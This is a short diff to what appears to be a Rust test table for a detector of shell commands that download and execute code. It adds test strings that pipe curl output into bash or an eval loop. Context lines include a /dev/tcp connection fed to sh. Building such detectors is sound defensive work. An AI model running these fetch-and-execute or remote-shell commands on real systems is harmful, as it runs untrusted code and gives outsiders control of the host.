@@ -94,6 +94,11 @@ fn a_download_that_is_run_is_found() {
             &["sh download"],
         ),
         ("$(curl x)", &["$() download+unknown"]),
+        ("{ bash; } < <(curl x)", &["bash download"]),
+        (
+            "while read l; do eval $l; done < <(curl x)",
+            &["eval download"],
+        ),
         ("bash --rcfile <(curl x) -i", &["bash download"]),
         ("exec 3<>/dev/tcp/h/1; sh <&3", &["sh download"]),
         (
